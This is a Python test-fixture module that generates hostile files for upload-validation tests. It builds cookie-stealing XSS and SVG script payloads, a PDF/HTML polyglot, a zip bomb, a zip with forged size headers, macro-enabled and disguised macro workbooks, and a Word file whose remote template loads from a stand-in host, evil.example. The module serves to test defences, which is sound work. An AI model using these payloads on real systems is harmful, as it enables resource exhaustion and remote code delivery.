"""Hostile files, built for real in memory: small on disk, some huge once inflated.

Shared by the hostile-file tests of lib, collection, exports and plans."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

from openpyxl import Workbook

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 40
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 60
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
POLYGLOT = b"%PDF-1.7\n<html><script>alert(1)</script></html>\n" + PDF
MACRO_TYPE = (
    b'<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
)
MACRO_WORKBOOK = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PLAIN_WORKBOOK = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def workbook(fill: Callable[[Workbook], None] | None = None) -> bytes:
    book = Workbook()
    book.active.append(["Mã", "Tự đánh giá"])  # type: ignore[union-attr]
    if fill:
        fill(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rebuild(
    data: bytes, extra: dict[str, bytes], patch: Callable[[str, bytes], bytes] | None = None
) -> bytes:
    """A copy of the zip `data` with members added (or replaced) and each one `patch`ed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename in extra:
                continue
            body = source.read(info)
            target.writestr(info, patch(info.filename, body) if patch else body)
        for name, body in extra.items():
            target.writestr(name, body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def office(main: str = "xl/workbook.xml", extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(main, "<x/>")
        for name, body in (extra or {}).items():
            archive.writestr(name, body)
    return out.getvalue()


def bomb(megabytes: int = 120, main: str = "xl/workbook.xml") -> bytes:
    """An Office-shaped zip whose one sheet inflates to `megabytes` of zeros (~0.5 MB here)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(main, "<x/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=False) as member:
            chunk = b"0" * (1 << 20)
            for _ in range(megabytes):
                member.write(chunk)
    return out.getvalue()


def lying(real: int = 3 << 20, declared: int = 1000) -> bytes:
    """A zip whose headers claim a member of `declared` bytes that really inflates to `real`:
    a reader trusting the header would inflate far more than it planned for."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<x/>")
        archive.writestr("xl/worksheets/sheet1.xml", bytes(range(256)) * (real // 256))
    data = bytearray(out.getvalue())
    true_size = struct.pack("<I", (real // 256) * 256)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            if data[at + offset : at + offset + 4] == true_size:
                data[at + offset : at + offset + 4] = struct.pack("<I", declared)
            start = at + 4
    return bytes(data)


def many_members(count: int) -> bytes:
    return office(extra={f"xl/media/p{i}.xml": b"" for i in range(count)})


def xlsm(data: bytes | None = None) -> bytes:
    """A real macro-enabled workbook: vbaProject.bin and the macro-enabled content type."""

    def macro_types(name: str, body: bytes) -> bytes:
        if name != "[Content_Types].xml":
            return body
        body = body.replace(PLAIN_WORKBOOK, MACRO_WORKBOOK)
        return body.replace(b"</Types>", MACRO_TYPE + b"</Types>")

    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE compound file header
    return rebuild(data or workbook(), {"xl/vbaProject.bin": vba}, macro_types)


def macro_type_only(data: bytes | None = None) -> bytes:
    """No vbaProject.bin, but the workbook's content type says macro-enabled (disguised)."""
    return rebuild(data or workbook(), {}, lambda n, b: b.replace(PLAIN_WORKBOOK, MACRO_WORKBOOK))


def external_link(data: bytes | None = None) -> bytes:
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<externalBook r:id="rId1"/></externalLink>'
    )
    return rebuild(data or workbook(), {"xl/externalLinks/externalLink1.xml": link})


def remote_template_docx() -> bytes:
    rels = (
        b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm"'
        b' TargetMode="External"/></Relationships>'
    )
    return office("word/document.xml", {"word/_rels/settings.xml.rels": rels})
